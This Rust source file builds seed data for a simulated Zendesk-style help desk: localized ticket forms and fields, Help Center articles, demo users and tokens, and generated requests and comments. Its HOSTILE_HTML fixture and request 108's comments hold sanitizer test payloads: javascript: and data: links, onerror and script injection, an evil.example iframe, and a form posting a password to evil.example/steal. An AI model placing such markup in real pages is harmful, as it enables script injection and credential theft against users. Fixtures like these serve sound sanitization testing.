//! Seed data of the `acme` account: users and tokens, requests and comments, and the static
//! [`Catalog`] of ticket forms, ticket fields and Help Center articles.
//!
//! Ids (also in docs/simulator.md):
//!
//! * Ticket forms: 10 "General question" (default), 11 "Order problem", 12 "Technical issue"
//!   (all end-user visible and active); 13 "Returns (retired)" (inactive); 14 "Agent escalation"
//!   (not end-user visible).
//! * Ticket fields: 20 subject, 19 description, 21 Topic (tagger, required), 22 Order number
//!   (text), 23 Steps to reproduce (textarea), 24 Blocking my work (checkbox), 25 Date of
//!   purchase (date), 26 Quantity (integer), 27 Amount paid (decimal), 28 Serial number
//!   (regexp), 29 Affected platforms (multiselect), 30 Product (nested drop-down, `::` names),
//!   31 Internal escalation note (text, **not** visible in portal).
//! * Articles 7001–7030, sections 601–603.
//!
//! Everything is generated deterministically and cheaply: start-up stays well under a second
//! even with the 2,000-request user and the 1,000-comment request.

use crate::png;
use crate::state::{Attachment, Comment, Request, Status, Store, Token, User};
use crate::time;
use bytes::Bytes;
use serde_json::{json, Value};
use std::collections::BTreeMap;

/// Text in English with optional German and French translations (`?locale=`).
#[derive(Debug, Clone)]
pub struct L10n {
    /// English.
    pub en: &'static str,
    /// German.
    pub de: Option<&'static str>,
    /// French.
    pub fr: Option<&'static str>,
}

impl L10n {
    /// The text for a locale such as `de`, `de-CH` or `fr-fr`; English otherwise.
    pub fn get(&self, locale: Option<&str>) -> &'static str {
        let lang = locale
            .map(|l| {
                l.split(['-', '_'])
                    .next()
                    .unwrap_or("")
                    .to_ascii_lowercase()
            })
            .unwrap_or_default();
        match lang.as_str() {
            "de" => self.de.unwrap_or(self.en),
            "fr" => self.fr.unwrap_or(self.en),
            _ => self.en,
        }
    }
}

const fn t(en: &'static str, de: &'static str, fr: &'static str) -> L10n {
    L10n {
        en,
        de: Some(de),
        fr: Some(fr),
    }
}

/// A drop-down option.
#[derive(Debug, Clone)]
pub struct FieldOption {
    /// Option id.
    pub id: u64,
    /// Shown name (`::` separates levels of a nested drop-down).
    pub name: L10n,
    /// Tag value stored on the ticket.
    pub value: &'static str,
    /// Preselected.
    pub default: bool,
}

/// A ticket field.
#[derive(Debug, Clone)]
pub struct TicketField {
    /// Field id.
    pub id: u64,
    /// Zendesk type (`subject`, `description`, `text`, `tagger`, …).
    pub kind: &'static str,
    /// Agent-facing title.
    pub title: &'static str,
    /// End-user title.
    pub title_in_portal: L10n,
    /// Help text.
    pub description: L10n,
    /// Required for end users.
    pub required_in_portal: bool,
    /// Shown to end users.
    pub visible_in_portal: bool,
    /// Editable by end users.
    pub editable_in_portal: bool,
    /// Active.
    pub active: bool,
    /// Ruby-style regexp of `regexp` fields.
    pub regexp: Option<&'static str>,
    /// Options of `tagger`/`multiselect` fields.
    pub options: Vec<FieldOption>,
    /// Sort position.
    pub position: u32,
}

impl TicketField {
    /// `subject`/`description` are system fields, never in `custom_fields`.
    pub fn is_system(&self) -> bool {
        matches!(self.kind, "subject" | "description")
    }
}

/// An `end_user_conditions` entry.
#[derive(Debug, Clone)]
pub struct Condition {
    /// Field whose value triggers the condition.
    pub parent_field_id: u64,
    /// Value that shows the children.
    pub value: Value,
    /// `(child field id, is_required)`.
    pub child_fields: Vec<(u64, bool)>,
}

/// A ticket form.
#[derive(Debug, Clone)]
pub struct TicketForm {
    /// Form id.
    pub id: u64,
    /// Agent-facing name.
    pub name: &'static str,
    /// End-user name.
    pub display_name: L10n,
    /// Shown to end users.
    pub end_user_visible: bool,
    /// Active.
    pub active: bool,
    /// The account's default form.
    pub default: bool,
    /// Sort position.
    pub position: u32,
    /// Fields, in order (may include fields end users can't see).
    pub ticket_field_ids: Vec<u64>,
    /// Conditional fields for end users.
    pub end_user_conditions: Vec<Condition>,
}

/// A Help Center article.
#[derive(Debug, Clone)]
pub struct Article {
    /// Article id.
    pub id: u64,
    /// Title.
    pub title: &'static str,
    /// HTML body.
    pub body: String,
    /// Section.
    pub section_id: u64,
    /// Creation time.
    pub created_at: i64,
    /// Last edit.
    pub updated_at: i64,
    /// Votes.
    pub vote_sum: i64,
}

/// Forms, fields and articles: fixed, never persisted.
#[derive(Debug, Clone)]
pub struct Catalog {
    /// Ticket forms by position.
    pub forms: Vec<TicketForm>,
    /// Ticket fields by position.
    pub fields: Vec<TicketField>,
    /// Help Center articles.
    pub articles: Vec<Article>,
}

/// The default ticket form.
pub const DEFAULT_FORM: u64 = 10;

fn opt(id: u64, en: &'static str, de: &'static str, value: &'static str) -> FieldOption {
    FieldOption {
        id,
        name: L10n {
            en,
            de: Some(de),
            fr: None,
        },
        value,
        default: false,
    }
}

#[allow(clippy::too_many_arguments)]
fn field(
    id: u64,
    kind: &'static str,
    title: &'static str,
    portal: L10n,
    description: L10n,
    required: bool,
    visible: bool,
    position: u32,
) -> TicketField {
    TicketField {
        id,
        kind,
        title,
        title_in_portal: portal,
        description,
        required_in_portal: required,
        visible_in_portal: visible,
        editable_in_portal: visible,
        active: true,
        regexp: None,
        options: Vec::new(),
        position,
    }
}

const NO_DESC: L10n = L10n {
    en: "",
    de: None,
    fr: None,
};

impl Catalog {
    /// Builds the catalog.
    pub fn build() -> Catalog {
        let mut fields = vec![
            field(
                20,
                "subject",
                "Subject",
                t("Subject", "Betreff", "Objet"),
                NO_DESC,
                true,
                true,
                1,
            ),
            field(
                19,
                "description",
                "Description",
                t("Description", "Beschreibung", "Description"),
                t(
                    "Please enter the details of your request.",
                    "Bitte beschreiben Sie Ihr Anliegen.",
                    "Veuillez saisir les détails de votre demande.",
                ),
                true,
                true,
                2,
            ),
            field(
                21,
                "tagger",
                "Topic",
                t("What is it about?", "Worum geht es?", "De quoi s'agit-il ?"),
                NO_DESC,
                true,
                true,
                3,
            ),
            field(
                22,
                "text",
                "Order number",
                t("Order number", "Bestellnummer", "Numéro de commande"),
                t(
                    "Starts with ACME-",
                    "Beginnt mit ACME-",
                    "Commence par ACME-",
                ),
                false,
                true,
                4,
            ),
            field(
                23,
                "textarea",
                "Steps to reproduce",
                t(
                    "Steps to reproduce",
                    "Schritte zum Nachvollziehen",
                    "Étapes pour reproduire",
                ),
                NO_DESC,
                false,
                true,
                5,
            ),
            field(
                24,
                "checkbox",
                "Blocking",
                t(
                    "This is blocking my work",
                    "Das blockiert meine Arbeit",
                    "Cela bloque mon travail",
                ),
                NO_DESC,
                false,
                true,
                6,
            ),
            field(
                25,
                "date",
                "Purchase date",
                t("Date of purchase", "Kaufdatum", "Date d'achat"),
                NO_DESC,
                false,
                true,
                7,
            ),
            field(
                26,
                "integer",
                "Quantity",
                t("Quantity", "Menge", "Quantité"),
                NO_DESC,
                false,
                true,
                8,
            ),
            field(
                27,
                "decimal",
                "Amount paid",
                t(
                    "Amount paid (EUR)",
                    "Bezahlter Betrag (EUR)",
                    "Montant payé (EUR)",
                ),
                NO_DESC,
                false,
                true,
                9,
            ),
            field(
                28,
                "regexp",
                "Serial number",
                t("Serial number", "Seriennummer", "Numéro de série"),
                t(
                    "Two letters, a dash and four digits, e.g. AB-1234",
                    "Zwei Buchstaben, Bindestrich, vier Ziffern, z. B. AB-1234",
                    "Deux lettres, un tiret et quatre chiffres, p. ex. AB-1234",
                ),
                false,
                true,
                10,
            ),
            field(
                29,
                "multiselect",
                "Platforms",
                t(
                    "Affected platforms",
                    "Betroffene Plattformen",
                    "Plateformes concernées",
                ),
                NO_DESC,
                false,
                true,
                11,
            ),
            field(
                30,
                "tagger",
                "Product",
                t("Product", "Produkt", "Produit"),
                NO_DESC,
                false,
                true,
                12,
            ),
            field(
                31,
                "text",
                "Internal escalation note",
                t(
                    "Internal escalation note",
                    "Interne Eskalationsnotiz",
                    "Note d'escalade interne",
                ),
                NO_DESC,
                false,
                false,
                13,
            ),
        ];
        for f in &mut fields {
            match f.id {
                21 => {
                    f.options = vec![
                        opt(2101, "Billing", "Rechnung", "billing"),
                        opt(2102, "Shipping", "Versand", "shipping"),
                        opt(
                            2103,
                            "Technical problem",
                            "Technisches Problem",
                            "technical",
                        ),
                        opt(2104, "Something else", "Etwas anderes", "other"),
                    ]
                }
                28 => f.regexp = Some(r"\A[A-Z]{2}-\d{4}\z"),
                29 => {
                    f.options = vec![
                        opt(2901, "Windows", "Windows", "windows"),
                        opt(2902, "macOS", "macOS", "macos"),
                        opt(2903, "Linux", "Linux", "linux"),
                        opt(2904, "iOS", "iOS", "ios"),
                        opt(2905, "Android", "Android", "android"),
                    ]
                }
                30 => {
                    f.options = vec![
                        opt(
                            3001,
                            "Hardware::Laptop",
                            "Hardware::Laptop",
                            "hardware__laptop",
                        ),
                        opt(
                            3002,
                            "Hardware::Phone",
                            "Hardware::Telefon",
                            "hardware__phone",
                        ),
                        opt(
                            3003,
                            "Software::Mobile app",
                            "Software::Mobile App",
                            "software__mobile_app",
                        ),
                        opt(
                            3004,
                            "Software::Desktop app",
                            "Software::Desktop-App",
                            "software__desktop_app",
                        ),
                    ];
                    f.options[2].default = false;
                }
                _ => {}
            }
        }
        let forms = vec![
            TicketForm {
                id: 10,
                name: "General question",
                display_name: t("General question", "Allgemeine Frage", "Question générale"),
                end_user_visible: true,
                active: true,
                default: true,
                position: 1,
                ticket_field_ids: vec![20, 19, 21, 22, 25, 24, 31],
                end_user_conditions: vec![Condition {
                    parent_field_id: 21,
                    value: json!("shipping"),
                    child_fields: vec![(22, true), (25, false)],
                }],
            },
            TicketForm {
                id: 11,
                name: "Order problem",
                display_name: t(
                    "Problem with an order",
                    "Problem mit einer Bestellung",
                    "Problème de commande",
                ),
                end_user_visible: true,
                active: true,
                default: false,
                position: 2,
                ticket_field_ids: vec![20, 19, 22, 25, 26, 27, 30, 28],
                end_user_conditions: vec![Condition {
                    parent_field_id: 30,
                    value: json!("hardware__laptop"),
                    child_fields: vec![(28, true)],
                }],
            },
            TicketForm {
                id: 12,
                name: "Technical issue",
                display_name: t(
                    "Technical issue",
                    "Technisches Problem",
                    "Problème technique",
                ),
                end_user_visible: true,
                active: true,
                default: false,
                position: 3,
                ticket_field_ids: vec![20, 19, 30, 29, 24, 23, 28],
                end_user_conditions: vec![
                    Condition {
                        parent_field_id: 24,
                        value: json!(true),
                        child_fields: vec![(23, true)],
                    },
                    Condition {
                        parent_field_id: 30,
                        value: json!("software__mobile_app"),
                        child_fields: vec![(29, false)],
                    },
                ],
            },
            TicketForm {
                id: 13,
                name: "Returns (retired)",
                display_name: t("Returns", "Rücksendungen", "Retours"),
                end_user_visible: true,
                active: false,
                default: false,
                position: 4,
                ticket_field_ids: vec![20, 19, 22],
                end_user_conditions: vec![],
            },
            TicketForm {
                id: 14,
                name: "Agent escalation",
                display_name: t("Escalation", "Eskalation", "Escalade"),
                end_user_visible: false,
                active: true,
                default: false,
                position: 5,
                ticket_field_ids: vec![20, 19, 31],
                end_user_conditions: vec![],
            },
        ];
        Catalog {
            forms,
            fields,
            articles: articles(),
        }
    }

    /// Field by id.
    pub fn field(&self, id: u64) -> Option<&TicketField> {
        self.fields.iter().find(|f| f.id == id)
    }

    /// Form by id.
    pub fn form(&self, id: u64) -> Option<&TicketForm> {
        self.forms.iter().find(|f| f.id == id)
    }
}

const ARTICLES: [(&str, &str); 30] = [
    ("How do I reset my password?", "Open the sign-in page and choose <strong>Forgot password</strong>. We email you a reset link that is valid for 24 hours."),
    ("Changing the email address on your account", "Go to <em>Profile → Email</em>, enter the new address and confirm it from the verification email."),
    ("Where is my order?", "Every order has a tracking link in the shipping confirmation email. Shipping usually takes 3–5 business days."),
    ("Shipping times and costs", "Standard shipping is free above 50 EUR. Express shipping arrives the next business day when ordered before noon."),
    ("Returning an item", "You can return unused items within 30 days. Print the return label from your order page and drop the parcel at any post office."),
    ("Refund processing times", "Refunds are issued to the original payment method within 5 business days after we receive the return."),
    ("Updating your billing details", "Billing details and invoices live under <em>Account → Billing</em>. Changes apply to the next invoice."),
    ("Downloading an invoice", "Open the order and choose <strong>Download invoice</strong>. Invoices are PDF files and include VAT."),
    ("Accepted payment methods", "We accept credit cards, PayPal, SEPA direct debit and bank transfer for business accounts."),
    ("Why was my payment declined?", "Payments are declined when the card is expired, the billing address does not match or the bank blocks the charge."),
    ("Setting up two-factor authentication", "Enable two-factor authentication under <em>Security</em> and scan the QR code with an authenticator app."),
    ("The mobile app crashes on start", "Update the app to the latest version, restart the phone and clear the app cache. If it still crashes, send us the crash report."),
    ("Syncing between desktop and mobile app", "Sync runs every five minutes. Pull down on the list in the mobile app to sync immediately."),
    ("Installing the desktop app on Windows", "Download the installer, run it and follow the steps. Administrator rights are needed for the first install."),
    ("Installing the desktop app on macOS", "Drag the app to Applications. On first start macOS asks you to confirm that you want to open it."),
    ("Installing the desktop app on Linux", "We ship .deb and .rpm packages and an AppImage. The AppImage needs no installation."),
    ("Laptop battery drains quickly", "Lower the screen brightness, close background apps and check the battery report in the settings app."),
    ("Laptop does not turn on", "Hold the power button for 15 seconds, connect the charger and try again. The charging light should turn orange."),
    ("Finding the serial number of your device", "The serial number is printed under the device and in <em>Settings → About</em>. It looks like AB-1234."),
    ("Warranty coverage", "All hardware comes with a two-year warranty covering manufacturing defects. Accidental damage is not covered."),
    ("Exporting your data", "Use <strong>Export</strong> in the account menu to download all your data as a ZIP file with CSV and JSON."),
    ("Deleting your account", "Deleting your account removes all data after 30 days. Contact support if you change your mind in the meantime."),
    ("Inviting team members", "Admins can invite team members from <em>Team → Invite</em>. Invitations expire after seven days."),
    ("Roles and permissions", "Owners manage billing, admins manage the team and members use the product. Roles can be changed at any time."),
    ("Using keyboard shortcuts", "Press <code>?</code> anywhere to see all keyboard shortcuts. <code>Ctrl+K</code> opens the command palette."),
    ("Connecting the API", "Create an API key under <em>Developers</em>. Keep it secret: it grants full access to your account."),
    ("Webhook delivery failures", "Webhooks are retried with exponential backoff for 24 hours. Check that your endpoint answers within 10 seconds."),
    ("Accessibility features", "The app supports screen readers, high-contrast mode and full keyboard navigation."),
    ("Contacting support", "Use the contact form to open a request. We answer within one business day, faster for urgent problems."),
    ("System status and outages", "Our status page shows incidents and maintenance. Subscribe to get notified about outages."),
];

fn articles() -> Vec<Article> {
    let base = time::at(2025, 3, 1, 9, 0, 0);
    ARTICLES
        .iter()
        .enumerate()
        .map(|(i, (title, body))| Article {
            id: 7001 + i as u64,
            title,
            body: format!("<p>{body}</p><p>Still stuck? <a href=\"/hc/en-us/requests/new\">Contact us</a>.</p>"),
            section_id: 601 + (i as u64 % 3),
            created_at: base + i as i64 * 86_400 * 7,
            updated_at: base + i as i64 * 86_400 * 9,
            vote_sum: (i as i64 * 7) % 23 - 3,
        })
        .collect()
}

/// Seeded demo identities: `(id, name, email, token)`.
pub const END_USERS: [(u64, &str, &str, &str); 4] = [
    (1001, "Ada Lovelace", "ada@example.com", "ada-token"),
    (1002, "Grace Hopper", "grace@example.com", "grace-token"),
    (1003, "Bulk Buyer", "bulk@example.com", "bulk-token"),
    (
        1004,
        "Charles Babbage",
        "charles@example.com",
        "charles-token",
    ),
];

/// Seeded agents: `(id, name, email)`.
pub const AGENTS: [(u64, &str, &str); 2] = [
    (2001, "Sam Rivera", "sam@acme.example"),
    (2002, "Priya Natarajan", "priya@acme.example"),
];

/// The account's API token (for `{email}/token:{API_TOKEN}` Basic auth, never CORS-enabled).
pub const API_TOKEN: &str = "acme-api-token";

/// Escapes text for HTML.
pub fn escape_html(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            _ => out.push(c),
        }
    }
    out
}

/// Renders a plain comment body as Zendesk does: one `<p dir="auto">` per paragraph in a
/// `zd-comment` div, line breaks as `<br>`.
pub fn render_plain(body: &str) -> String {
    let paragraphs: Vec<String> = body
        .split("\n\n")
        .filter(|p| !p.trim().is_empty())
        .map(|p| {
            format!(
                "<p dir=\"auto\">{}</p>",
                escape_html(p.trim()).replace('\n', "<br>")
            )
        })
        .collect();
    format!(
        "<div class=\"zd-comment\" dir=\"auto\">{}</div>",
        paragraphs.concat()
    )
}

struct Seeder {
    s: Store,
}

impl Seeder {
    fn file(
        &mut self,
        name: &str,
        ctype: &str,
        data: Vec<u8>,
        dims: (Value, Value),
        inline: bool,
    ) -> u64 {
        let id = self.s.attachment_id();
        let token = self.s.secret(24);
        self.s.attachments.insert(
            id,
            Attachment {
                id,
                token,
                file_name: name.into(),
                content_type: ctype.into(),
                data: Bytes::from(data),
                width: dims.0,
                height: dims.1,
                inline,
                thumbnail_id: None,
            },
        );
        id
    }

    /// A PNG screenshot with an 80×45 thumbnail; `int_dims` picks number vs digit-string sizes
    /// (real responses have both).
    fn screenshot(&mut self, name: &str, accent: [u8; 3], inline: bool, int_dims: bool) -> u64 {
        let dims = if int_dims {
            (json!(320), json!(180))
        } else {
            (json!("320"), json!("180"))
        };
        let id = self.file(
            name,
            "image/png",
            png::mock_screenshot(320, 180, accent),
            dims,
            inline,
        );
        let thumb_name = name.replace(".png", "_thumb.png");
        let thumb = self.file(
            &thumb_name,
            "image/png",
            png::mock_screenshot(80, 45, accent),
            (json!("80"), json!("45")),
            false,
        );
        if let Some(a) = self.s.attachments.get_mut(&id) {
            a.thumbnail_id = Some(thumb);
        }
        id
    }

    fn comment(
        &mut self,
        req: u64,
        author: u64,
        body: &str,
        html: Option<&str>,
        attachments: Vec<u64>,
        at: i64,
    ) {
        let id = self.s.comment_id();
        let html_body = html
            .map(str::to_string)
            .unwrap_or_else(|| render_plain(body));
        self.s.comments.entry(req).or_default().push(Comment {
            id,
            author_id: author,
            body: body.into(),
            html_body,
            plain_body: body.into(),
            public: true,
            attachment_ids: attachments,
            created_at: at,
        });
    }

    #[allow(clippy::too_many_arguments)]
    fn request(
        &mut self,
        id: u64,
        requester: u64,
        subject: &str,
        description: &str,
        status: Status,
        assignee: Option<u64>,
        created: i64,
        form: u64,
    ) -> &mut Request {
        self.comment(id, requester, description, None, vec![], created);
        self.s.requests.entry(id).or_insert(Request {
            id,
            subject: subject.into(),
            description: description.into(),
            status,
            requester_id: requester,
            assignee_id: assignee,
            group_id: assignee.map(|_| 360_000_001),
            organization_id: None,
            collaborator_ids: vec![],
            email_cc_ids: vec![],
            ticket_form_id: form,
            custom_fields: vec![],
            followup_source_id: None,
            priority: None,
            kind: None,
            solvable: false,
            via: "web".into(),
            created_at: created,
            updated_at: created,
        })
    }

    fn touch(&mut self, id: u64) {
        let last = self
            .s
            .comments
            .get(&id)
            .and_then(|c| c.last())
            .map(|c| c.created_at);
        if let (Some(r), Some(t)) = (self.s.requests.get_mut(&id), last) {
            r.updated_at = r.updated_at.max(t);
        }
    }
}

const RICH_HTML: &str = r#"<div class="zd-comment" dir="auto"><p dir="auto">Hi Ada,</p><p dir="auto">Thanks for the details. To get the export working again:</p><ol><li><p dir="auto">Open <strong>Settings → Data</strong>.</p></li><li><p dir="auto">Run <code>acme export --all</code> from the terminal.</p></li><li><p dir="auto">Check the result against our <a href="https://support.acme.example/hc/en-us/articles/7021" target="_blank" rel="noopener noreferrer">export guide</a>.</p></li></ol><p dir="auto">Here is what the screen should look like:</p><p dir="auto"><img src="%INLINE_IMAGE%" alt="Export settings screen" width="320" height="180"></p><ul><li>The invoice is attached as a PDF.</li><li>The screenshot is attached too.</li></ul><pre><code>export OK: 42 files</code></pre><p dir="auto">Best,<br><b>Sam</b></p></div>"#;

const HOSTILE_HTML: &str = r#"<div class="zd-comment" dir="auto"><p dir="auto">Please check <a href="javascript:alert('xss-link')">this link</a> and the preview below.</p><img src="x" onerror="alert('xss-img')"><script>alert('xss-script')</script><p dir="auto" onclick="alert('xss-click')" style="position:fixed;top:0;left:0;width:100%;height:100%">Click anywhere</p><iframe src="https://evil.example/"></iframe><form action="https://evil.example/steal"><input name="password"></form></div>"#;

const TOPICS: [&str; 12] = [
    "Invoice shows the wrong VAT number",
    "Tracking link does not work",
    "App crashes when I open settings",
    "Cannot change my email address",
    "Laptop fan is very loud",
    "Refund not received yet",
    "Two-factor codes are rejected",
    "Sync stopped working on my phone",
    "Question about the warranty",
    "Export to CSV is missing columns",
    "Package arrived damaged",
    "Password reset email never arrives",
];

/// Builds the seeded store.
pub fn store(salt: u64) -> Store {
    let mut sd = Seeder {
        s: Store {
            next_request_id: 20_000,
            next_comment_id: 1_000_000,
            next_attachment_id: 5_000_000,
            next_user_id: 5000,
            salt,
            ..Store::default()
        },
    };
    let t0 = time::at(2026, 9, 1, 9, 0, 0);
    for (id, name, email, token) in END_USERS {
        sd.s.users.insert(
            id,
            User {
                id,
                name: name.into(),
                email: email.into(),
                agent: false,
                verified: id != 1002,
                locale: "en-US".into(),
                photo: None,
                created_at: t0 - 86_400 * 200,
            },
        );
        sd.s.tokens.insert(
            token.into(),
            Token {
                user_id: id,
                expires_at: None,
            },
        );
    }
    for (i, (id, name, email)) in AGENTS.into_iter().enumerate() {
        let color = [[3, 99, 204], [17, 125, 73]][i];
        let photo = sd.file(
            &format!(
                "{}.png",
                name.split(' ').next().unwrap_or("agent").to_lowercase()
            ),
            "image/png",
            png::avatar(80, color),
            (json!(80), json!(80)),
            false,
        );
        sd.s.users.insert(
            id,
            User {
                id,
                name: name.into(),
                email: email.into(),
                agent: true,
                verified: true,
                locale: "en-US".into(),
                photo: Some(photo),
                created_at: t0 - 86_400 * 400,
            },
        );
    }

    let (ada, grace, bulk, charles) = (1001, 1002, 1003, 1004);
    let (sam, priya) = (2001, 2002);
    let day = 86_400;

    // --- Ada's 40 requests (100–139), oldest first.
    let cycle = [
        Status::Open,
        Status::Pending,
        Status::Solved,
        Status::Closed,
        Status::Hold,
        Status::New,
    ];
    for id in 100..140u64 {
        let created = t0 + (id as i64 - 100) * day + 3600 * (id as i64 % 7);
        let n = (id - 100) as usize;
        let status = match id {
            101 | 105 | 108 | 120 => Status::Open,
            102 => Status::Pending,
            103 => Status::Solved,
            104 => Status::Closed,
            106 => Status::Hold,
            107 => Status::New,
            _ => cycle[n % cycle.len()],
        };
        let subject = match id {
            101 => "Export fails with an error".to_string(),
            102 => "Which plan includes SSO?".to_string(),
            103 => "Invoice for October".to_string(),
            104 => "Order ACME-1042 arrived late".to_string(),
            105 => "Password reset email never arrives".to_string(),
            106 => "Replacement part for my laptop".to_string(),
            107 => "Feature idea: dark mode".to_string(),
            108 => "Strange link in your reply".to_string(),
            120 => "Long-running conversation about the migration".to_string(),
            _ => TOPICS[n % TOPICS.len()].to_string(),
        };
        let description = format!(
            "Hello,\n\n{subject}. This started on {}.\n\nThanks,\nAda",
            &time::iso(created)[..10]
        );
        let assignee = if status == Status::New {
            None
        } else {
            Some(if id % 2 == 0 { sam } else { priya })
        };
        let form = [10, 11, 12][n % 3];
        let r = sd.request(
            id,
            ada,
            &subject,
            &description,
            status,
            assignee,
            created,
            form,
        );
        r.custom_fields = match form {
            10 => vec![(21, json!(if id % 2 == 0 { "technical" } else { "billing" }))],
            11 => vec![
                (22, json!(format!("ACME-{}", 1000 + id))),
                (26, json!("2")),
                (27, json!("49.90")),
                (30, json!("hardware__phone")),
            ],
            _ => vec![(30, json!("software__desktop_app")), (24, json!(false))],
        };
        if id == 105 {
            r.solvable = true;
        }
        match status {
            Status::New => {}
            Status::Hold => sd.comment(id, assignee.unwrap_or(sam), "We have asked our warehouse and will get back to you as soon as we hear from them.", None, vec![], created + 7200),
            _ if id != 101 && id != 108 && id != 120 => {
                let reply = match status {
                    Status::Pending => "Could you tell us which version you are using? You can find it under Help → About.",
                    Status::Solved | Status::Closed => "This is fixed now. Let us know if anything else comes up!",
                    _ => "Thanks for reaching out, we are looking into it.",
                };
                sd.comment(id, assignee.unwrap_or(sam), reply, None, vec![], created + 5400);
            }
            _ => {}
        }
        sd.touch(id);
    }

    // 101: rich agent reply with an inline image and two attachments.
    let inline = sd.screenshot("export-settings.png", [3, 99, 204], true, true);
    let shot = sd.screenshot("screenshot.png", [204, 60, 3], false, false);
    let pdf = sd.file(
        "invoice-2026-10.pdf",
        "application/pdf",
        png::pdf("ACME invoice 2026-10: 49.90 EUR"),
        (Value::Null, Value::Null),
        false,
    );
    let inline_url =
        sd.s.attachments
            .get(&inline)
            .map(|a| {
                format!(
                    "%CONTENT_ORIGIN%/attachments/token/{}/?name={}",
                    a.token, a.file_name
                )
            })
            .unwrap_or_default();
    let rich = RICH_HTML.replace("%INLINE_IMAGE%", &inline_url);
    let t101 = sd.s.requests.get(&101).map(|r| r.created_at).unwrap_or(t0);
    sd.comment(101, sam, "Hi Ada,\n\nThanks for the details. To get the export working again:\n\n1. Open **Settings → Data**.\n2. Run `acme export --all` from the terminal.\n3. Check the result against our export guide.\n\nBest,\nSam", Some(&rich), vec![inline, shot, pdf], t101 + 4000);
    if let Some(c) = sd.s.comments.get_mut(&101).and_then(|c| c.last_mut()) {
        c.plain_body = "Hi Ada,\n\nThanks for the details. To get the export working again:\n\n1. Open Settings → Data.\n2. Run acme export --all from the terminal.\n3. Check the result against our export guide (https://support.acme.example/hc/en-us/articles/7021).\n\nBest,\nSam".into();
    }
    let user_shot = sd.screenshot("error-dialog.png", [120, 120, 120], false, false);
    sd.comment(
        101,
        ada,
        "Thanks! I attached the error I still get.",
        None,
        vec![user_shot],
        t101 + 8000,
    );
    sd.touch(101);

    // 108: hostile markup the widget must sanitize.
    let t108 = sd.s.requests.get(&108).map(|r| r.created_at).unwrap_or(t0);
    sd.comment(
        108,
        priya,
        "Please check this link and the preview below.",
        Some(HOSTILE_HTML),
        vec![],
        t108 + 3000,
    );
    sd.comment(108, priya, "One more: <img src=x onerror=alert(2)> (typed as text, must show literally)", Some("<div class=\"zd-comment\" dir=\"auto\"><p dir=\"auto\">One more: <a href=\"JaVaScRiPt:alert('xss-case')\">mixed case</a> <a href=\"data:text/html,<script>alert(3)</script>\">data link</a> <img src=\"https://tracker.example/pixel.gif\" width=\"1\" height=\"1\"></p></div>"), vec![], t108 + 3600);
    sd.touch(108);

    // 120: 1,000 public comments, alternating agent and Ada, every 10 minutes.
    let t120 = sd.s.requests.get(&120).map(|r| r.created_at).unwrap_or(t0);
    for k in 1..1000u64 {
        let agent = k % 2 == 1;
        let author = if agent {
            [sam, priya][(k / 2 % 2) as usize]
        } else {
            ada
        };
        let body = if agent {
            format!("Migration step {k}: done on our side. Please confirm.")
        } else {
            format!("Confirmed step {k}, looks good.")
        };
        sd.comment(120, author, &body, None, vec![], t120 + k as i64 * 600);
    }
    sd.touch(120);

    // --- Charles's requests that CC Ada.
    for (id, subject, ccs) in [
        (150u64, "Team offsite: shared invoice", true),
        (151, "Access for Ada to the shared workspace", false),
    ] {
        let created = t0 + 12 * day + id as i64 * 60;
        let r = sd.request(
            id,
            charles,
            subject,
            &format!("{subject}. Adding Ada so she can follow along."),
            Status::Open,
            Some(sam),
            created,
            DEFAULT_FORM,
        );
        r.custom_fields = vec![(21, json!("billing"))];
        if ccs {
            r.email_cc_ids = vec![ada];
            r.collaborator_ids = vec![ada];
        } else {
            r.collaborator_ids = vec![ada];
        }
        sd.comment(
            id,
            sam,
            "Noted, both of you will get updates.",
            None,
            vec![],
            created + 3600,
        );
        sd.touch(id);
    }
    let r = sd.request(
        152,
        charles,
        "Private question",
        "Something only Charles may read.",
        Status::Open,
        None,
        t0 + 13 * day,
        DEFAULT_FORM,
    );
    r.custom_fields = vec![(21, json!("other"))];

    // --- Grace (unverified): can read her requests one by one but not list them.
    for (id, subject) in [
        (160u64, "Is my account verified?"),
        (161, "Where do I find the verification email?"),
    ] {
        let r = sd.request(
            id,
            grace,
            subject,
            subject,
            Status::Open,
            None,
            t0 + 20 * day + id as i64,
            DEFAULT_FORM,
        );
        r.custom_fields = vec![(21, json!("other"))];
    }

    // --- Bulk Buyer: 2,000 requests, ids 10000–11999, one per hour.
    let t_bulk = time::at(2026, 6, 1, 0, 0, 0);
    let bulk_cycle = [
        Status::Open,
        Status::Solved,
        Status::Closed,
        Status::Pending,
        Status::New,
        Status::Hold,
        Status::Closed,
        Status::Solved,
    ];
    for n in 0..2000u64 {
        let id = 10_000 + n;
        let created = t_bulk + n as i64 * 3600;
        let subject = format!(
            "Order ACME-{} {}",
            50_000 + n,
            [
                "order status",
                "bulk discount",
                "delivery date",
                "invoice copy",
                "pallet damaged"
            ][(n % 5) as usize]
        );
        let status = bulk_cycle[(n % 8) as usize];
        let r = sd.request(
            id,
            bulk,
            &subject,
            "Please check this order.",
            status,
            Some(sam),
            created,
            DEFAULT_FORM,
        );
        r.custom_fields = vec![
            (21, json!("shipping")),
            (22, json!(format!("ACME-{}", 50_000 + n))),
        ];
        // Updated times interleave differently from created times so both sorts are distinguishable.
        r.updated_at = created + ((n * 7919) % 2000) as i64 * 60;
    }

    let mut store = sd.s;
    // Comments are kept sorted by creation (seed inserts per request in time order already).
    let _: &BTreeMap<u64, Vec<Comment>> = &store.comments;
    store.next_request_id = store.next_request_id.max(20_000);
    store
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn seed_shape() {
        let start = std::time::Instant::now();
        let s = store(1);
        assert!(start.elapsed().as_millis() < 1000);
        assert_eq!(
            s.requests
                .values()
                .filter(|r| r.requester_id == 1003)
                .count(),
            2000
        );
        assert_eq!(s.comments[&120].len(), 1000);
        assert_eq!(
            s.requests
                .values()
                .filter(|r| r.requester_id == 1001)
                .count(),
            40
        );
        let c = Catalog::build();
        assert_eq!(c.articles.len(), 30);
        assert_eq!(
            c.field(28).and_then(|f| f.regexp),
            Some(r"\A[A-Z]{2}-\d{4}\z")
        );
        assert_eq!(
            L10n {
                en: "a",
                de: Some("b"),
                fr: None
            }
            .get(Some("de-CH")),
            "b"
        );
    }
}
